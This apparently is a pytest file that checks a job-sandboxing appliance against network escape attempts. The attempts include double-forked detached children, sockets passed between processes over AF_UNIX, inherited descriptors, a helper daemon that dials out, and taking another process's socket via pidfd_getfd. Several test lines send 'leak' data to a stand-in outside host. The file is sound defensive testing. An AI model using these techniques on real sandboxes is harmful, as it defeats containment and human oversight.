"""Ways out that need more than one process, or somebody outside of the job."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.bypass.hostile import Driver, Hostile
from tests.bypass.rows import tries
from tests.world import HOST4, OUTSIDE4

pytestmark = pytest.mark.world

LISTEN = "s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(({address!r}, {port})); s.listen(); c, _ = s.accept(); "
TAKE = (  # job one waits at an abstract AF_UNIX address for a socket
    "l = socket.socket(1, 1); l.bind('\\0' + {name!r}); l.listen(); l.settimeout(6); c, _ = l.accept()\n"
    "_, fds, _, _ = socket.recv_fds(c, 9, 1); s = socket.socket(fileno=fds[0]); s.settimeout(1)\n"
)
GIVE = (  # whoever has made `s` gives it to job one
    "c = socket.socket(1, 1)\nfor _ in range(300):\n try:\n  c.connect('\\0' + {name!r}); break\n"
    " except ConnectionRefusedError: time.sleep(0.01)\nsocket.send_fds(c, [b'x'], [s.fileno()])\n"
)


def given(hostile: Hostile, giver: Driver | None, make: str, use: str) -> str:
    """A socket made by `giver` (None: a process of the same user, outside of any job), used in job one."""
    name = f"{hostile.spine.world.name}-{os.urandom(4).hex()}"
    code = make + "\n" + GIVE.format(name=name)
    process = None
    if giver is not None:
        assert giver.process.stdin is not None
        giver.process.stdin.write(json.dumps(code) + "\n")
        giver.process.stdin.flush()
    else:
        process = hostile.spine.world.popen(
            ["/usr/bin/python3", "-c", f"import socket, time\n{code}\ntime.sleep(5)"], uid=65534, cwd="/"
        )
    outcome = hostile.attempt(TAKE.format(name=name) + use)
    if giver is not None:
        assert giver._line() == '"done"\n'
    if process is not None:
        process.kill()
    return outcome


@tries("a listener in the job, fetched from outside")
def test_inbound(hostile: Hostile) -> None:
    driver = Driver(hostile.spine)
    assert driver.process.stdin is not None
    driver.process.stdin.write(
        '"' + LISTEN.format(address=HOST4, port=8088).replace('"', "'") + "c.send(b'leak')" + '"\n'
    )
    driver.process.stdin.flush()

    def fetch() -> str:
        hostile.escaped()
        with hostile.spine.world.inside("outside", socket.socket) as client:
            client.settimeout(1)
            try:
                client.connect((HOST4, 8088))
            except OSError as error:
                return type(error).__name__
            return "fetched"

    while (outcome := fetch()) == "ConnectionRefusedError":
        time.sleep(0.01)  # it does not listen yet
    assert outcome == "TimeoutError"
    assert hostile.escaped() == []
    driver.process.kill()


@tries("a listener in the job that a service of the host fetches")
def test_the_host_may_fetch(hostile: Hostile) -> None:
    driver = Driver(hostile.spine)
    assert driver.process.stdin is not None
    driver.process.stdin.write('"' + LISTEN.format(address="127.0.0.1", port=8089) + "c.send(b'seen')" + '"\n')
    driver.process.stdin.flush()
    code = (
        "import socket, time\nfor _ in range(300):\n try:\n  s = socket.create_connection(('127.0.0.1', 8089)); break\n"
    )
    code += " except ConnectionRefusedError: time.sleep(0.01)\nprint(s.recv(9))"
    assert hostile.spine.world.python(code).stdout == "b'seen'\n"
    driver.end()


FORK_TWICE = """
reading, writing = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(3, writing); os.closerange(writing + 1, 99)
    {work}
os.wait(); os.close(writing); say(os.read(reading, 999).decode())
"""


@tries("a child that outlives the job's main process")
def test_outliving(hostile: Hostile) -> None:
    driver = Driver(hostile.spine)
    # the writing end stays open for as long as the grandchild lives
    said = driver.run(
        FORK_TWICE.format(work="os.write(writing, str(os.getpid()).encode()); os.close(writing); time.sleep(600)")
    )
    assert Path(f"/proc/{said}").exists()
    pidfd = os.pidfd_open(int(said))
    hostile.escaped()
    driver.end()
    deadline = time.monotonic() + 20
    while Path(f"/proc/{said}/stat").exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not Path(f"/proc/{said}/stat").exists()
    os.close(pidfd)
    jobs = hostile.spine.appliance.cli("status", "--json")
    assert driver.job not in jobs.stdout
    assert any(r["type"] == "job.ended" and r["job"] == driver.job for r in hostile.spine.appliance.audit())


@tries("a child of a running job, detached by two forks and a session")
def test_detached(hostile: Hostile) -> None:
    hostile.escaped()
    work = f"s = socket.socket(); s.connect(({OUTSIDE4!r}, 7777)); s.send(b'leak\\n')\n"
    work += "    try:\n        s.recv(9); os.write(writing, b'answered')\n"
    work += "    except ConnectionResetError:\n        os.write(writing, b'cut off')\n    os._exit(0)"
    assert hostile.attempt(FORK_TWICE.format(work=work)) == "cut off"
    assert hostile.escaped() == []


def start_with(hostile: Hostile, code: str, **options: object) -> subprocess.CompletedProcess[str]:
    """`coatcheck run` by a process of the agent that has first run `code`."""
    appliance = hostile.spine.appliance
    argv = appliance.job_command([*appliance.python, "-c", "import os; print(sorted(os.listdir('/proc/self/fd')))"])
    return hostile.spine.world.run(
        [*appliance.python, "-c", f"import os, socket\n{code}\nos.execv({argv[0]!r}, {argv!r})"],
        cwd="/",
        env=appliance.environment,
        uid=65534,
        groups=[appliance.group],
    )


@tries("a network socket inherited as standard input")
def test_inherited_as_input(hostile: Hostile) -> None:
    done = start_with(hostile, f"s = socket.create_connection(({OUTSIDE4!r}, 7777)); os.dup2(s.fileno(), 0)")
    assert done.returncode == 64
    assert "descriptor 0 is a network socket" in done.stderr


@tries("a network socket inherited under a high number")
def test_inherited_high(hostile: Hostile) -> None:
    done = start_with(hostile, f"s = socket.create_connection(({OUTSIDE4!r}, 7777)); os.dup2(s.fileno(), 77)")
    assert done.returncode != 0 or done.stdout == "['0', '1', '2', '3']\n", done.stdout  # 3 is the listing itself


@tries("a socket of another job, passed over AF_UNIX, not connected")
def test_socket_of_another_job(hostile: Hostile) -> None:
    hostile.escaped()
    use = f"s.connect(({OUTSIDE4!r}, 7777))"
    assert given(hostile, hostile.two, "s = socket.socket()", use) == "EPERM"
    use = f"s.sendto(b'x', ({OUTSIDE4!r}, 53))"
    assert given(hostile, hostile.two, "s = socket.socket(2, 2)", use) == "EPERM"
    assert hostile.escaped() == []


@tries("a connected socket of another job, passed over AF_UNIX")
def test_connection_of_another_job(hostile: Hostile) -> None:
    """It is job two's connection, and on record as such."""
    before = len(hostile.spine.appliance.audit())
    use = "s.send(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); say(s.recv(12))"
    outcome = given(hostile, hostile.two, f"s = socket.create_connection(({OUTSIDE4!r}, 80))", use)
    assert outcome == "b'HTTP/1.1 403'"
    opened = [r for r in hostile.spine.appliance.audit()[before:] if r["type"] == "flow.opened"]
    assert [r["job"] for r in opened] == [hostile.two.job]


@tries("a network socket from a process outside of any job, passed over AF_UNIX")
def test_socket_from_outside(hostile: Hostile) -> None:
    hostile.escaped()
    given(hostile, None, "s = socket.socket()", f"s.connect(({OUTSIDE4!r}, 7777))")
    assert f"6 {OUTSIDE4}" in hostile.escaped()  # the limit


DAEMON = """
import socket
s = socket.socket(1, 1); s.bind({path!r}); s.listen()
print('ready', flush=True)
c, _ = s.accept()
c.recv(99); socket.create_connection(({to!r}, 7777)).send(b'for you')
c.send(b'done')
"""


@tries("a daemon outside of any job that dials for it (docker.sock, systemd, cron)")
def test_daemon(hostile: Hostile) -> None:
    path = f"\0{hostile.spine.world.name}-daemon"
    daemon = hostile.spine.world.popen(
        [sys.executable, "-c", DAEMON.format(path=path, to=OUTSIDE4)], stdout=subprocess.PIPE
    )
    assert daemon.stdout is not None
    daemon.stdout.readline()
    hostile.escaped()
    assert (
        hostile.attempt(f"s = socket.socket(1, 1); s.connect({path!r}); s.send(b'dial'); say(s.recv(9))") == "b'done'"
    )
    assert f"6 {OUTSIDE4}" in hostile.escaped()  # the limit
    daemon.wait(5)


@tries("a process of the same user outside of any job, taken over by ptrace")
def test_taking_over(hostile: Hostile) -> None:
    """Its connection is taken by pidfd_getfd(2), for which the kernel wants what it wants for ptrace(2)."""
    code = f"import socket, time; s = socket.create_connection(({OUTSIDE4!r}, 7777)); "
    code += "print(s.fileno(), flush=True); time.sleep(9)"
    victim = hostile.spine.world.popen(["/usr/bin/python3", "-c", code], uid=65534, cwd="/", stdout=subprocess.PIPE)
    assert victim.stdout is not None
    number = int(victim.stdout.readline())
    hostile.escaped()
    take = "c = ctypes.CDLL(None, use_errno=True); fd = c.syscall(438, os.pidfd_open({}), {}, 0)\n"
    take += "if fd < 0: raise OSError(ctypes.get_errno(), '')\nsocket.socket(fileno=fd).send(b'leak')"
    outcome = hostile.attempt(take.format(victim.pid, number))
    scope = Path("/proc/sys/kernel/yama/ptrace_scope")
    if scope.exists() and re.match("[123]", scope.read_text()):
        assert outcome == "EPERM"
    else:
        assert outcome == "done"
        assert f"6 {OUTSIDE4}" in hostile.escaped()  # the limit
    victim.kill()
